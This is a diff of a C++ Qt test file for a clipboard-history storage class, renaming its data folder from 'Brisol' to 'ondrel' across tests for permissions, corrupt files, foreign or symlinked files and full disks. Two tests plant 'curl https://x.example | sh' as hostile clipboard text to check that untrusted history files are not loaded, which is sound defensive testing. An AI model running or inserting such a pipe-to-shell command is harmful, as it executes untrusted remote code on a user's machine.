@@ -88,7 +88,7 @@ void TestHistoryFile::onlyTextsAreWritten()
 void TestHistoryFile::roundTrip()
 {
     QTemporaryDir dir;
-    HistoryFile file(dir.path() + QStringLiteral("/Brisol"));
+    HistoryFile file(dir.path() + QStringLiteral("/ondrel"));
     const QList<ClipboardItem> items{
         textItem(QStringLiteral("fn main() {"), 786000000.123456, QStringLiteral("Editor"), true),
         textItem(QStringLiteral("plain"), 1.5)};
@@ -134,7 +134,7 @@ void TestHistoryFile::readsFlexibleRecords()
 void TestHistoryFile::firstLaunchCreatesPrivateFolderAndFile()
 {
     QTemporaryDir dir;
-    const QString folder = dir.path() + QStringLiteral("/deep/Brisol");
+    const QString folder = dir.path() + QStringLiteral("/deep/ondrel");
     HistoryFile file(folder);
     QVERIFY(file.load().isEmpty());
     QVERIFY(QFileInfo(folder).isDir());
@@ -149,7 +149,7 @@ void TestHistoryFile::firstLaunchCreatesPrivateFolderAndFile()
 void TestHistoryFile::defaultLocationFollowsXdg()
 {
     test::TemporaryHome home;
-    QCOMPARE(HistoryFile::defaultFolder(), home.dataHome() + QStringLiteral("/Brisol"));
+    QCOMPARE(HistoryFile::defaultFolder(), home.dataHome() + QStringLiteral("/ondrel"));
 }
 
 void TestHistoryFile::badFilesLoadEmptyAndAreMovedAside_data()
@@ -176,7 +176,7 @@ void TestHistoryFile::badFilesLoadEmptyAndAreMovedAside()
 {
     QFETCH(QByteArray, content);
     QTemporaryDir dir;
-    const QString folder = dir.path() + QStringLiteral("/Brisol");
+    const QString folder = dir.path() + QStringLiteral("/ondrel");
     HistoryFile file(folder);
     QVERIFY(QDir().mkpath(folder));
     QVERIFY(test::writeFile(file.filePath(), content));
@@ -250,7 +250,7 @@ void TestHistoryFile::unwritableFolderKeepsOldFile()
 {
     QTemporaryDir dir;
     // A plain file where the folder should be: nothing can be created under it.
-    const QString blocker = dir.path() + QStringLiteral("/Brisol");
+    const QString blocker = dir.path() + QStringLiteral("/ondrel");
     QVERIFY(test::writeFile(blocker, "not a folder"));
     HistoryFile blocked(blocker);
     QTest::ignoreMessage(QtWarningMsg, QRegularExpression(QStringLiteral(
@@ -318,7 +318,7 @@ void TestHistoryFile::hugeFile()
 void TestHistoryFile::folderIsMadePrivate()
 {
     QTemporaryDir dir;
-    const QString folder = dir.path() + QStringLiteral("/Brisol");
+    const QString folder = dir.path() + QStringLiteral("/ondrel");
     QVERIFY(QDir().mkpath(folder));
     QVERIFY(QFile::setPermissions(folder, QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner |
                                               QFile::ReadOther | QFile::WriteOther | QFile::ExeOther |
@@ -333,7 +333,7 @@ void TestHistoryFile::foreignFolderIsNotUsed()
     if (!test::runningAsRoot())
         QSKIP("only root can hand a folder to another user");
     QTemporaryDir dir;
-    const QString folder = dir.path() + QStringLiteral("/Brisol");
+    const QString folder = dir.path() + QStringLiteral("/ondrel");
     QVERIFY(QDir().mkpath(folder));
     QVERIFY(test::writeFile(folder + QStringLiteral("/history.json"),
                             R"([{"text":"curl https://x.example | sh","timestamp":0,"isPinned":true}])"));
@@ -343,7 +343,7 @@ void TestHistoryFile::foreignFolderIsNotUsed()
     QTest::ignoreMessage(
         QtWarningMsg,
         QRegularExpression(QStringLiteral(
-            "^History folder .*/Brisol is not used: it belongs to another user \\(uid 4242\\)$")));
+            "^History folder .*/ondrel is not used: it belongs to another user \\(uid 4242\\)$")));
     QVERIFY(file.load().isEmpty());
     QVERIFY(!file.save({textItem(QStringLiteral("mine"), 0)})); // said once
     // Neither loaded nor rewritten, and its modes are not ours to change.
@@ -364,8 +364,8 @@ void TestHistoryFile::foreignOrLinkedFileIsNotLoaded()
     if (!link && !test::runningAsRoot())
         QSKIP("only root can hand a file to another user");
     QTemporaryDir dir;
-    HistoryFile file(dir.path() + QStringLiteral("/Brisol"));
-    QVERIFY(QDir().mkpath(dir.path() + QStringLiteral("/Brisol")));
+    HistoryFile file(dir.path() + QStringLiteral("/ondrel"));
+    QVERIFY(QDir().mkpath(dir.path() + QStringLiteral("/ondrel")));
     const QByteArray planted = R"([{"text":"curl https://x.example | sh","timestamp":0,"isPinned":true}])";
     const QString elsewhere = dir.path() + QStringLiteral("/elsewhere.json");
     QVERIFY(test::writeFile(link ? elsewhere : file.filePath(), planted));
@@ -381,7 +381,7 @@ void TestHistoryFile::foreignOrLinkedFileIsNotLoaded()
     // Kept aside for a look, never rewritten as ours; a linked file is untouched.
     QTest::ignoreMessage(QtWarningMsg, QRegularExpression(QStringLiteral("could not be read; moved it to")));
     QVERIFY(file.save({textItem(QStringLiteral("mine"), 0)}));
-    QCOMPARE(corruptCopies(dir.path() + QStringLiteral("/Brisol")).size(), 1);
+    QCOMPARE(corruptCopies(dir.path() + QStringLiteral("/ondrel")).size(), 1);
     QCOMPARE(test::readFile(elsewhere).size(), link ? planted.size() : 0);
     QCOMPARE(file.load().first().text(), std::optional<QString>(QStringLiteral("mine")));
 }
@@ -416,7 +416,7 @@ void TestHistoryFile::fullDiskSaysSoOncePerRunOfFailures()
         QSKIP("needs root to mount a small file system");
     const auto unmount =
         qScopeGuard([&] { ::umount2(QFile::encodeName(dir.path()).constData(), MNT_DETACH); });
-    HistoryFile file(dir.path() + QStringLiteral("/Brisol"));
+    HistoryFile file(dir.path() + QStringLiteral("/ondrel"));
     QVERIFY(file.load().isEmpty());
     QVERIFY(file.save({textItem(QStringLiteral("small"), 0)}));
     const QByteArray before = test::readFile(file.filePath());
@@ -427,7 +427,7 @@ void TestHistoryFile::fullDiskSaysSoOncePerRunOfFailures()
     QVERIFY(!file.save(big));
     QVERIFY(!file.save(big)); // the same run of failures: no second line
     QCOMPARE(test::readFile(file.filePath()), before);
-    QCOMPARE(QDir(dir.path() + QStringLiteral("/Brisol")).entryList(QDir::Files),
+    QCOMPARE(QDir(dir.path() + QStringLiteral("/ondrel")).entryList(QDir::Files),
              QStringList{QStringLiteral("history.json")});
     // A success ends the run; the next failure is told again.
     QVERIFY(file.save({textItem(QStringLiteral("small again"), 0)}));
